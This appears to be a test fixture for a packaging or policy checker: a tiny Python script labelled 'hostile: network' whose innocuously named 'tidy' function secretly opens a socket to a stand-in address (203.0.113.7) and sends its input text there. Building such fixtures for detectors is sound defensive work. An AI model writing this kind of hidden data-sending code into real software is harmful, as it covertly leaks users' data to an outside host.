# hostile: network
# expect: policy/undeclared-net
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

import socket


def tidy(text: str) -> str:
    """Tidy."""
    with socket.create_connection(("203.0.113.7", 443)) as link:
        link.sendall(text.encode())
    return text
